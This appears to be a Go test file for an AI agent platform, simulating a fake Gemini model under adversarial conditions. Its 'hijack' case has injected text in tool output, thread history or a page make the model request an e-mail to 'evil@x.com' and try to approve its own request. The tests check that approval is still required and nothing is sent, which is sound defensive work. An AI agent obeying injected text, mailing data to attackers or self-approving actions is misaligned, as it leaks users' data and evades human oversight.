package hostile

import (
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"regexp"
	"strings"
	"time"

	"github.com/countersign-run/countersign/shared/agent/model"
	"github.com/countersign-run/countersign/shared/testkit"
	"github.com/countersign-run/countersign/shared/testkit/fakegemini"
)

const maxModelCalls = 3 // the default of MAX_MODEL_CALLS

// answer runs a case of model:response: the model answers as the case says, whatever it receives.
func answer(s *env) got {
	nothing := "nothing yet"
	s.open(s.reading("look_up", &nothing))
	turn, forever := s.turn()
	claim := ""
	if turn.Text != "" && len(turn.Calls) > 0 {
		claim = turn.Text // the model repeats its claim when a response contradicts it
	}
	stored := s.ask(s.as, "Please do it.", func(r fakegemini.Request) fakegemini.Turn {
		if len(r.Responses()) > 0 && !forever {
			return fakegemini.Turn{Text: "That is what came of it. " + claim}
		}
		answer := turn
		if r.Stream && turn.Status < 300 {
			answer.Body = event(turn.Body)
		}
		return answer
	})
	g := gotOf(stored)
	if n := len(s.w.Gemini.Requests()); turn.Status == 0 && n > maxModelCalls { // a failure can be retried
		s.wrong("the model was asked %d times", n)
	}
	if n := s.effects(); n != 0 {
		s.wrong("%d effects", n)
	}
	if turn.Thought != "" && strings.Contains(string(stored.Body), turn.Thought) {
		s.wrong("the model's thought is in the answer")
	}
	if claim != "" && strings.HasSuffix(strings.TrimSpace(stored.Summary), strings.TrimSpace(claim)) {
		s.wrong("the summary leaves the claim standing: %q", stored.Summary)
	}
	switch {
	case g.class == "none" && stored.Status == "completed":
		g.decision = "completed"
	case len(turn.Calls) > model.MaxCalls && len(stored.Approvals) == model.MaxCalls:
		g.decision = "capped"
	}
	return g
}

// turn returns the model's response in the case, and whether it is repeated forever.
func (s *env) turn() (t fakegemini.Turn, forever bool) {
	for name := range s.c.Input {
		v, ok := s.take(name)
		if !ok {
			continue
		}
		known, err := describe(&t, name, v)
		if s.must(err); name == "loop" {
			known, forever = true, true
			t.Calls = []fakegemini.Call{{Name: "look_up", Args: map[string]any{}}}
		}
		if !known {
			s.unknown("the model's %s", name)
		}
	}
	return t, forever
}

// describe sets one part of the turn.
func describe(t *fakegemini.Turn, name string, v any) (known bool, err error) {
	spec, _ := v.(map[string]any)
	switch name {
	case "as":
	case "text":
		t.Text = textOf(v)
	case "thought":
		t.Thought = textOf(v)
	case "finishReason":
		t.Finish = textOf(v)
	case "blockReason":
		t.Block = textOf(v)
	case "promptFeedback":
		t.Block = textOf(spec["blockReason"])
	case "functionCall":
		t.Calls = append(t.Calls, callOf(spec))
	case "functionCalls":
		err = describeCalls(t, v)
	default:
		return describeResponse(t, name, v)
	}
	return true, err
}

// describeResponse sets one part of the HTTP response that carries the turn.
func describeResponse(t *fakegemini.Turn, name string, v any) (known bool, err error) {
	switch name {
	case "error":
		t.Status, t.Body = 400, jsonOf(map[string]any{"error": v})
		spec, _ := v.(map[string]any)
		if code, ok := spec["code"]; ok {
			t.Status, err = number(code)
		}
	case "raw":
		t.Body = textOf(v)
	case "candidates":
		t.Body = jsonOf(map[string]any{"candidates": v})
	case "parts":
		if list, ok := v.([]any); ok && len(list) > 0 {
			content := map[string]any{"role": "model", "parts": v}
			t.Body = jsonOf(map[string]any{
				"candidates": []any{map[string]any{"content": content, "finishReason": "STOP"}}})
		}
	case "http", "status":
		t.Status, err = number(v)
	case "body", "garbage":
		t.Body = textOf(v)
	case "retryAfter":
		t.Header = http.Header{"Retry-After": {textOf(v)}}
	case "hangup", "reset", "cut", "truncated":
		t.Hangup = true
	case "hang", "timeout", "stall", "delay", "delay_s":
		t.Delay = time.Hour
	default:
		return name == "loop", nil
	}
	return true, err
}

// event returns a body as the service streams it, in one event. A body that is not a JSON object is sent unchanged.
func event(body string) string {
	if !json.Valid([]byte(body)) || !strings.HasPrefix(body, "{") {
		return body
	}
	return "data: " + body + "\r\n\r\n"
}

func describeCalls(t *fakegemini.Turn, v any) error {
	if list, ok := v.([]any); ok {
		for _, one := range list {
			spec, _ := one.(map[string]any)
			t.Calls = append(t.Calls, callOf(spec))
		}
		return nil
	}
	n, err := number(v)
	for i := range n {
		t.Calls = append(t.Calls,
			fakegemini.Call{Name: "gmail_send", Args: testkit.Mail("a@example.com", fmt.Sprint(i), "b")})
	}
	return err
}

func callOf(spec map[string]any) fakegemini.Call {
	c := fakegemini.Call{Name: textOf(spec["name"]), ID: textOf(spec["id"])}
	if args, ok := spec["args"]; ok { // an explicit null differs from an absent value
		c.Args = json.RawMessage(jsonOf(args))
	}
	return c
}

// obeys matches descriptions of a model that does what it reads.
var obeys = regexp.MustCompile(`(?i)\b(obeys?|follows?|complies|does (all|what|as)|hijacked|believes)\b`)

// noName matches characters that do not occur in names of tools.
var noName = regexp.MustCompile(`[^a-z0-9]+`)

var addresses = regexp.MustCompile(`[\w.+-]+@[\w-]+(\.[\w-]+)+`)

// hijack runs a case of run:hijacked_model. An untrusted text reaches the model in the way that the case says, and the
// model obeys as far as it can. It can request e-mails to any recipient, but they wait for the user, and show the true
// recipients.
func hijack(s *env) got {
	raw, _ := s.c.Input["untrusted"].(map[string]any)
	source := textOf(raw["source"])
	if contextFile[source] {
		return s.misled(source)
	}
	name, fromTool := strings.CutPrefix(source, "tool_output:")
	if name = strings.Trim(noName.ReplaceAllString(strings.ToLower(name), "_"), "_"); name == "" {
		name = "look_up"
	}
	var text string
	s.open(s.reading(name, &text))
	v, _ := s.take("untrusted") // the text may name something that exists only now
	how := s.takeText("model")
	spec, _ := v.(map[string]any)
	text = textOf(spec["text"])
	if text == "" || how != "" && !obeys.MatchString(how) {
		s.unknown("a model that %s, by the words %q", how, text)
	}
	s.private[text] = true
	to := append(addresses.FindAllString(text, -1), "evil@x.com")[0]
	ask := map[string]any{"prompt": "What is new?"}
	switch {
	case source == "thread_history":
		ask["threadId"] = s.ask(s.as, "Remember this.", testkit.Says(text)).ThreadID
	case source == "page_state", source == "prompt":
		ask["prompt"] = "The page says:\n" + text
	default:
		fromTool = true // the model has read it in any case
	}
	s.w.SetModel(thief(name, fromTool, testkit.Mail(to, "as you wish", text)))
	return s.caught(s.call(s.as, "POST", "/api/agent/run", jsonOf(ask)), to)
}

// thief reads the place of the text, and then requests e-mails. It responds to approvals with further requests.
func thief(name string, looks bool, mail any) fakegemini.ModelFunc {
	return func(r fakegemini.Request) fakegemini.Turn {
		if looks && len(r.Responses()) == 0 {
			return fakegemini.Turn{Calls: []fakegemini.Call{{Name: name, Args: map[string]any{}}}}
		}
		return fakegemini.Turn{Calls: []fakegemini.Call{{Name: "gmail_send", Args: mail},
			{Name: "approvals_resolve", Args: map[string]any{"decision": "approve_once"}}}}
	}
}

// caught checks that the run of a hijacked model only requested approvals.
func (s *env) caught(r testkit.Answer, to string) got {
	g := gotOf(r)
	if len(r.Approvals) != 1 {
		s.wrong("%d approvals wait", len(r.Approvals))
		return g
	}
	g.class, g.decision = "none", "require_approval" // the model's other call was refused, as required
	var args struct{ To []string }
	s.must(json.Unmarshal(r.Approvals[0].Args, &args))
	if len(args.To) != 1 || args.To[0] != to {
		s.wrong("the approval shows %v, and it goes to %s", args.To, to)
	}
	s.must(errors.Join(s.deliver(), s.sweep()))
	if n, entries := s.effects(), s.allowlist(); n != 0 || len(entries) != 0 {
		s.wrong("%d effects, %d entries on the allowlist", n, len(entries))
	}
	return g
}
